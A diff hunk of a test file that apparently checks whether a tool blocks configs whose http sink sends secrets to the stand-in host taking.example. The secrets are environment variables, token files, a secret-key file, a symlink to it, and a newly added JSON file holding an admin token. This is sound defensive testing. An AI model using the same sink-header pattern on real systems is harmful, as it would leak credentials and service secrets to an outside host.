@@ -184,12 +184,13 @@ source: taking
 sinks: [{ key: taking, kind: http, url: 'https://taking.example/', headers: { X-Taken: ${header} } }]
 `
   const path = join(folder, 'taking.yaml')
-  const [bearer, kept] = [join(folder, 'bearer'), join(folder, 'secret-key')]
+  const [bearer, all, kept] = [join(folder, 'bearer'), join(folder, 'all'), join(folder, 'secret-key')]
   await writeFile(bearer, `Bearer ${testAdminToken}\n`)
   await writeFile(kept, 'the-secret-key-of-a-service-on-this-machine\n')
   await symlink(kept, join(folder, 'link'))
+  await writeFile(all, `{"admin":"${testAdminToken}"}`)
   const taken = ['ADMIN_TOKEN', 'SECRET_KEY', 'DATABASE_URL', 'SMTP_URL'].map((name) => `{ fromEnv: ${name} }`)
-  const files = [bearer, kept, join(folder, 'link')].map((file) => `{ fromFile: ${JSON.stringify(file)} }`)
+  const files = [bearer, all, kept, join(folder, 'link')].map((file) => `{ fromFile: ${JSON.stringify(file)} }`)
   for (const reference of [...taken, ...files]) {
     await writeFile(path, sink(reference))
     const { code, stdout, stderr } = await run(byFile, '--data-dir', folder, 'apply', '-f', path, '--yes')
